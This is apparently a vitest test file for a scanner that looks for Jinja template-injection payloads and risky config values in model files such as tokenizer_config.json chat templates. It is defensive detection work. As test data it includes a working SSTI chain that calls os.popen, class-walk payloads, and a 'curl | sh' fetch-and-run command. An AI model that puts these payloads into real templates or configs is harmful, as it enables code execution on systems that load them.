import { describe, expect, it } from 'vitest';
import { scanBytes, scanFile } from '../../scan/engine.js';
import { detectJson, detectTemplate } from './scanners.js';
import { checkAgainstLabel, corpusEntries } from './testing.js';

const entries = corpusEntries(['jinja2-template', 'json']);
const b = (s: string): Buffer => Buffer.from(s, 'utf8');

describe('JSON scanner', () => {
  it('detects JSON objects and arrays, not other text or binaries', () => {
    for (const s of ['{"a": 1}', ' \n[1, 2]', '\ufeff{"x": []}', '{}', '[{"a": 1}]'])
      expect(detectJson(b(s), b(s).length), s).toBe(true);
    for (const s of ['{% if x %}', '{a: 1}', '[x]', 'hello', '{"a\u0000": 1}'])
      expect(detectJson(b(s), b(s).length), s).toBe(false);
  });

  it('runs the Jinja rules on chat_template, template lists and any Jinja string', async () => {
    const evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
    for (const doc of [
      { chat_template: evil },
      {
        chat_template: [
          { name: 'default', template: 'hi' },
          { name: 'tool_use', template: evil },
        ],
      },
      { nested: { deeper: [{ jinja_template: evil }] } },
      { prompt_format: evil },
    ]) {
      const r = await scanBytes('tokenizer_config.json', b(JSON.stringify(doc)));
      expect(r.findings.map((f) => f.id)).toContain('jinja.ssti-chain');
    }
  });

  it('does not treat quoted template code deep in data as a template', async () => {
    const doc = { rows: [{ text: "Example SSTI: {{ ''.__class__.__mro__ }}" }] };
    expect((await scanBytes('data.json', Buffer.from(JSON.stringify(doc)))).findings).toEqual([]);
  });

  it('keeps config heuristics at info/low', async () => {
    const r = await scanBytes(
      'config.json',
      b(
        JSON.stringify({
          url: 'http://203.0.113.9/x',
          api_key: 'sk-abcdefghijklmnopqrstuvwx',
          cmd: 'curl http://x | sh',
        }),
      ),
    );
    expect(r.findings.map((f) => `${f.id}:${f.severity}`)).toEqual([
      'config.external-url:info',
      'config.possible-secret:low',
      'config.shell-command:low',
    ]);
    expect(r.findings.some((f) => f.detail.includes('sk-abc'))).toBe(false);
  });

  it('does not mistake tokenizer special tokens or hub URLs for secrets', async () => {
    const doc = {
      pad_token: '<pad>',
      eos_token: '</s>',
      auth_token: null,
      homepage: 'https://huggingface.co/x',
    };
    expect((await scanBytes('tokenizer_config.json', b(JSON.stringify(doc)))).item.status).toBe('clean');
  });

  it('accepts JSON Lines', async () => {
    const r = await scanBytes('data.jsonl', b('{"a": 1}\n{"chat_template": "{{ x.__class__ }}"}\n'));
    expect(r.item.format).toBe('json');
    expect(r.metrics['json_documents']).toBe(2);
    expect(r.findings.map((f) => f.id)).toContain('jinja.class-walk');
  });

  it('reports invalid and too-deep JSON with typed errors', async () => {
    expect((await scanBytes('x.json', b('{"a": tru}'))).item.error?.code).toBe('FORMAT_INVALID');
    expect((await scanBytes('x.json', b(`[${'['.repeat(1000)}${']'.repeat(1000)}]`))).item.error?.code).toBe(
      'DEPTH_EXCEEDED',
    );
    const big = await scanBytes('x.json', b('{"a": "xxxxxxxxxxxxxxxx"}'), {
      format: 'json',
      limits: { maxTextBytes: 8 },
    });
    expect(big.item.error?.code).toBe('LIMIT_EXCEEDED');
  });
});

describe('template scanner', () => {
  it('claims only text with Jinja delimiters', () => {
    expect(detectTemplate(b('Hello {{ name }}'), 16)).toBe(true);
    expect(detectTemplate(b('plain text, no template'), 23)).toBe(false);
    expect(detectTemplate(Buffer.from([0x7b, 0x7b, 0, 0x7d, 0x7d]), 5)).toBe(false);
    expect(detectTemplate(Buffer.from([0x7b, 0x25, 0xff, 0xfe]), 4)).toBe(false);
  });

  it('leaves other text unknown (skipped)', async () => {
    const r = await scanBytes('README.md', b('# A model card\n\nNothing to see.\n'));
    expect(r.item.status).toBe('skipped');
    expect(r.item.format).toBe('unknown');
  });

  it('scans YAML with an embedded template', async () => {
    const r = await scanBytes(
      'config.yaml',
      b('chat_template: "{{ \'\'.__class__.__mro__[1].__subclasses__() }}"\n'),
    );
    expect(r.item.format).toBe('template');
    expect(r.findings.some((f) => f.severity === 'critical')).toBe(true);
  });
});

describe('corpus: Jinja templates and JSON configs', () => {
  it('has the labelled files', () => {
    expect(entries.length).toBeGreaterThanOrEqual(46);
  });

  it.each(entries.map((e) => [e.rel, e] as const))('%s', async (_rel, entry) => {
    const res = await scanFile(entry.path);
    expect(checkAgainstLabel(entry, res)).toBeNull();
    if (entry.category === 'benign') expect(res.item.status).toBe('clean');
    if (entry.category !== 'invalid') expect(['json', 'template']).toContain(res.item.format);
  });

  it('catches every obfuscated payload with a critical finding', async () => {
    for (const e of entries.filter((x) => x.rel.includes('/obfuscated/') || x.rel.includes('hex_bypass'))) {
      const res = await scanFile(e.path);
      expect(
        res.findings.some((f) => f.severity === 'critical'),
        e.rel,
      ).toBe(true);
    }
  });

  it('flags suspicious configs at most low', async () => {
    for (const e of entries.filter((x) => x.category === 'suspicious-config')) {
      const res = await scanFile(e.path);
      expect(res.findings.length, e.rel).toBeGreaterThan(0);
      expect(res.findings.every((f) => f.severity === 'low' || f.severity === 'info')).toBe(true);
    }
  });
});
